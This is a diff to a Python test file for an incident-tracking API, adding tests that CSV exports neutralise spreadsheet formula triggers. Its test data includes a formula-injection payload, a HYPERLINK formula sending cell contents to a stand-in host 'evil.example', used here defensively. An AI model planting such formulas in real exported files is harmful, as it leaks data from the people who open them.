@@ -41,7 +41,12 @@ from rest_framework.test import APIClient
 from api import exports
 from api.filters import run_incident_filter
 from incidents import services
-from incidents.importers.civtrack_csv import CASUALTY_KEYS, CSV_COLUMNS
+from incidents.importers.civtrack_csv import (
+    CASUALTY_KEYS,
+    CSV_COLUMNS,
+    ROW_COLUMNS,
+    TEXT_COLUMNS,
+)
 from incidents.models import (
     Attribution,
     Confidence,
@@ -52,6 +57,7 @@ from incidents.models import (
     IncidentWeapon,
     Location,
 )
+from incidents.spreadsheet import TRIGGERS, spreadsheet_unescape
 from tests.api.conftest import CANARIES
 from tests.api.test_export_batches import body, reference_csv
 from tests.factories import (
@@ -111,11 +117,22 @@ HAND_WRITTEN = [
     ("NULL", "null"),
     ("0042", "-0"),
     ("semicolons; ;; ;", ";"),
+    # Spreadsheet formulas (API.md "Safe to open in a spreadsheet"): each trigger first.
+    ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1 plus"),
+    ("-2", "-2"),
+    ("@SUM(A1)", "\t=tab then a formula"),
+    ("\rcarriage return first", "'=already quoted"),
+    ("'quoted", "''=twice"),
+    ("'", "'-"),
 ]
 
 # Pieces the generator strings together.
 PIECES = [
     ",",
+    "=",
+    "+",
+    "-",
+    "@",
     '"',
     "'",
     "\r",
@@ -585,7 +602,11 @@ def _check_csv_reads_back(client, user) -> bytes:
     data = body(client.get(f"{LIST}?format=csv"))
     rows = _rows(data)
     assert rows[0] == CSV_COLUMNS
-    got = {row[0]: (row[2], row[4]) for row in rows[1:]}
+    # Text cells come spreadsheet-safe; the importer's inverse gives the values back.
+    got = {
+        row[0]: (spreadsheet_unescape(row[2]), spreadsheet_unescape(row[4]))
+        for row in rows[1:]
+    }
     result = run_incident_filter(QueryDict(""), user=user)
     expected = {
         code: tuple(v)
@@ -633,6 +654,47 @@ def test_staff_csv_is_export_row_byte_for_byte(fuzz, monkeypatch):
     assert b",draft," in data
     assert b",in_review," in data
     assert b",withdrawn," in data
+
+
+def test_the_sql_and_the_reference_agree_on_which_columns_are_text():
+    from api.export_sql import _CSV_SOURCE
+
+    decided_by_type = [
+        c
+        for c in CSV_COLUMNS
+        if c not in ROW_COLUMNS
+        and (
+            "." in _CSV_SOURCE.get(c, c)
+            or Incident._meta.get_field(_CSV_SOURCE.get(c, c)).get_internal_type()
+            in ("CharField", "TextField")
+        )
+    ]
+
+    assert decided_by_type == TEXT_COLUMNS
+
+
+def test_csv_text_cells_never_open_as_formulas(client, fuzz):
+    """Every text cell of the export begins with no spreadsheet trigger, or with the
+    `'` that neutralises one; numeric cells keep their sign (`-0.5` stays a number)."""
+    rows = _rows(body(client.get(f"{LIST}?format=csv")))
+    header, lines = rows[0], rows[1:]
+    text = [header.index(c) for c in TEXT_COLUMNS]
+
+    for line in lines:
+        for index in text:
+            cell = line[index]
+            if cell[:1] == "'":
+                assert cell[1:2] in TRIGGERS, (header[index], cell)
+            else:
+                assert cell[:1] not in TRIGGERS, (header[index], cell)
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    assert ["'" + hostile, "'+1 plus"] in [
+        [line[header.index("title")], line[header.index("summary")]] for line in lines
+    ]
+    assert ["'-2", "'-2"] in [
+        [line[header.index("title")], line[header.index("summary")]] for line in lines
+    ]
+    assert "-0.5" in [line[header.index("latitude")] for line in lines]
 
 
 # ---------------------------------------------------------------------------------------
